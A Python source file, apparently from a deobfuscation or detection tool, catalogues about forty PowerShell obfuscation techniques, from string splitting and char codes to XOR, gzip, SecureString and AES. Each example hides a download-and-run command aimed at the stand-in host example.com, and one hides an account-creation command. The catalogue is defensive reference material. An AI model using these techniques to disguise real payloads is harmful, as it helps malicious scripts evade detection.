"""The ways of hiding that the reader of PowerShell undoes, each with an inert example."""

from __future__ import annotations

from vedette.commands.base import Method
from vedette.schema.command import Language

_URL = "http://example.com/a.ps1"
_LOCKED = (
    "76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwA"
    "YgBkADkAMABmADMAYwA3ADUANQAxADcANAAyADAAMQBlAGEAMwBjAGEANwA1ADkAMAA4ADIAZgA1ADYAOQBhAGQANQAwADMAYgAzAGUAM"
    "wA0ADcAMwAxADQAMgBhADUAZgBlAGEAOAA0ADMANgAyAGQAOQBmAGQANQA2ADYAYwA2ADUANgAxAGUAYQBhADcAMwBmADEAYwA4ADMAZQ"
    "A1AGIAOABjAGQAZgA3AGIAMAAwADUAZgAyAGIAYwA4ADcAYwBkAGQAZQA2AGIAOQA2ADYANQBlAGIAMgBkAGUAZAAyADEANgAzADUANAB"
    "jADYAZQA3ADgAYwA4ADQAOQBjAA=="
)
"""``iwr http://example.com/a.ps1`` under the key 1 … 16."""


def _method(id_: str, title: str, example: str, shows: str = _URL, note: str = "") -> Method:
    return Method(id_, title, Language.POWERSHELL, example, shows, note)


METHODS: tuple[Method, ...] = (
    _method("concatenation", "Text in pieces that are joined", "iwr ('ht'+'tp://exam'+'ple.com/a.ps1')"),
    _method("format-operator", "Pieces put in order by a format", "iwr ('{2}{0}{1}' -f 'p://example.com','/a.ps1','htt')"),
    _method("replace", "Foreign text that is replaced",
            "iwr ('hXXp://example.cZm/a.ps1'.Replace('X','t') -replace 'Z','o')"),
    _method("split", "Text taken apart at foreign characters",
            "iwr (-join ('http~://exa#mple.com/~a.ps1' -split '~|#'))"),
    _method("join", "An array joined to a text", "iwr ('http:','','example.com','a.ps1' -join '/')"),
    _method("reverse", "Text written backwards", "$s='1sp.a/moc.elpmaxe//:ptth'; iwr (-join $s[-1..-($s.Length)])"),
    _method("index-pick", "Characters picked by their place",
            "iwr ('ac1ot:e/lxh.psm '[10,4,4,12,5,7,7,6,9,0,14,12,8,6,"
            "11,1,3,14,7,0,11,12,13,2]-join'')",
            note="the places may be in any order"),
    _method("substring", "Parts cut out of a longer text",
            "iwr ('zzhttp://example.com/a.ps1zz'.Substring(2,24))"),
    _method("insert-remove", "Text inserted and removed", "iwr ('hp://example.com/a.ps1'.Insert(1,'tt'))"),
    _method("trim", "Padding that is trimmed", "iwr '###http://example.com/a.ps1###'.Trim('#')"),
    _method("padding", "Text padded to a width", "iwr ('ttp://example.com/a.ps1'.PadLeft(24,'h'))"),
    _method("repetition", "Text repeated", "iwr ('h'+'t'*2+'p:'+'/'*2+'example.com/a.ps1')"),
    _method("backtick", "Back ticks inside names", "I`wr 'http://example.com/a.ps1'", "Iwr 'http://example.com/a.ps1'"),
    _method("quote-splitting", "Quotes inside bare words", "net.exe us'e'r /add", "user"),
    _method("letter-case", "Shuffled letter case", "iNvOKe-wEbREQuEsT http://example.com/a.ps1",
            "Invoke-WebRequest http://example.com/a.ps1"),
    _method("comment", "Comments inside statements",
            "iwr<#a#> <# -Proxy http://example.net #> 'http://example.com/a.ps1'<#b#>",
            "iwr 'http://example.com/a.ps1'"),
    _method("call-operator", "A command's name called as a text", "& 'iwr' http://example.com/a.ps1",
            "iwr http://example.com/a.ps1"),
    _method("member-name", "A method's name as a text",
            "(New-Object Net.WebClient).'DownloadString'('http://example.com/a.ps1')", ".DownloadString('http://"),
    _method("command-lookup", "A command found by a wildcard", "& (gal i?x) 'iwr http://example.com/a.ps1'",
            "iex 'iwr http://example.com/a.ps1'"),
    _method("variable", "A value kept in a variable", "Set-Variable u 'http://example.com/a.ps1'; iwr (gv u).Value",
            "iwr 'http://example.com/a.ps1'"),
    _method("splatting", "Parameters kept in a table", "$p=@{Uri='http://example.com/'+'a.ps1'}; iwr @p"),
    _method("environment-substring", "Characters taken from system variables",
            "& ($env:ComSpec[4,24,25]-join'') 'iwr http://example.com/a.ps1'", "iex 'iwr http://example.com/a.ps1'"),
    _method("here-string", "Code in a here-string", "iex @'\niwr http://example.com/a.ps1\n'@",
            "iwr http://example.com/a.ps1"),
    _method("char-codes", "Characters by their numbers", "iex (-join(105,119,114,32,97|%{[char]$_}))", "iwr a"),
    _method("char-array", "An array of characters", "iex ([string]::new(('i','w','r',' ','a')))", "iwr a"),
    _method("hex", "Characters by hexadecimal numbers",
            "iex (-join('69-77-72-20-61'.Split('-')|%{[char][Convert]::ToInt32($_,16)}))", "iwr a"),
    _method("octal", "Characters by octal numbers",
            "iex (-join('151,167,162,40,141'.Split(',')|%{[char][Convert]::ToInt16($_,8)}))", "iwr a"),
    _method("binary-digits", "Characters by binary numbers",
            "iex (-join('1101001 1110111 1110010 100000 1100001' -split ' '|%{[char][Convert]::ToInt16($_,2)}))",
            "iwr a"),
    _method("xor", "Exclusive or with a key", "iex (-join(34,60,57,107,42|%{[char]($_ -bxor 75)}))", "iwr a"),
    _method("bit-arithmetic", "Arithmetic on bits", "iex (-join(-106,-120,-115,-33,-98|%{[char](-bnot $_)}))", "iwr a"),
    _method("base64", "Base64",
            "iex ([Text.Encoding]::UTF8.GetString("
            "[Convert]::FromBase64String('aXdyIGh0dHA6Ly9leGFtcGxlLmNvbS9hLnBzMQ==')))"),
    _method("gzip", "Compressed with gzip",
            "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream]"
            "[Convert]::FromBase64String('H4sIAAAAAAACA8ssL1LIKCkpsNLXT61IzC3ISdVLzs/VT9QrKDYEAHtTYmgcAAAA'),"
            "[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"),
    _method("deflate", "Compressed with deflate",
            "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
            "[Convert]::FromBase64String('yywvUsgoKSmw0tdPrUjMLchJ1UvOz9VP1CsoNgQA'),"
            "[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"),
    _method("securestring", "A secure string with its key", f"$s='{_LOCKED}'|ConvertTo-SecureString -Key (1..16);"
            "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto("
            "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))"),
    _method("aes", "Encrypted with AES",
            "$d=[Convert]::FromBase64String('AAECAwQFBgcICQoLDA0ODwnc0/Kmnbzy3pZzcCZFVbF58kpNYf2GgkWawQvpv2XE');"
            "$a=New-Object Security.Cryptography.AesManaged;$a.Key=1..16;$a.IV=$d[0..15];"
            "iex ([Text.Encoding]::UTF8.GetString($a.CreateDecryptor().TransformFinalBlock($d,16,$d.Length-16)))"),
    _method("regex-match", "Text read backwards or in parts by a regex",
            "iex (-join[regex]::Matches('1sp.a/moc.elpmaxe//:ptth rwi','.','RightToLeft'))"),
    _method("regex-escapes", "Escapes of regular expressions",
            "iex ([regex]::Unescape('iwr \\x68ttp://example\\u002ecom/a.ps1'))"),
    _method("url-encoding", "Percent signs", "iwr ([uri]::UnescapeDataString('http%3A%2F%2Fexample.com%2Fa.ps1'))"),
    _method("html-entities", "Entities of HTML",
            "iwr ([Net.WebUtility]::HtmlDecode('http&#58;//example.com/a.ps1'))"),
    _method("registry-value", "Code kept in a registry value that the command writes itself",
            "sp HKCU:\\Software\\x a 'iwr http://example.com/a.ps1'; iex (gp HKCU:\\Software\\x a).a"),
    _method("alias", "A new name for a command", "sal z iwr; z http://example.com/a.ps1", "iwr http://"),
    _method("sort", "Pieces put in order by a number",
            "iwr (-join('3example.com','4/a.ps1','1http','2://'|sort|%{$_.Substring(1)}))"),
)  # fmt: skip
